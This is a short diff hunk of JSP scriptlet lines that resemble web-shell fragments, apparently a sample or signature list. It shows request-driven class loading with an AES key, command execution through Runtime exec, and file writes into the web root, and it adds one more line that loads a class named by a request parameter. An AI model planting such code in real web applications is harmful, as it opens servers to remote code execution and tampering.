@@ -11,3 +11,4 @@
 <% class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); String k = request.getParameter("k"); %>
 <% Object o = new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{x}).getValue(); %>
 <% java.util.logging.FileHandler h = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("f")); %>
+<% String driver = request.getParameter( "driver" ); Class.forName( driver ); OutputStream o = new FileOutputStream(dir + t); %>
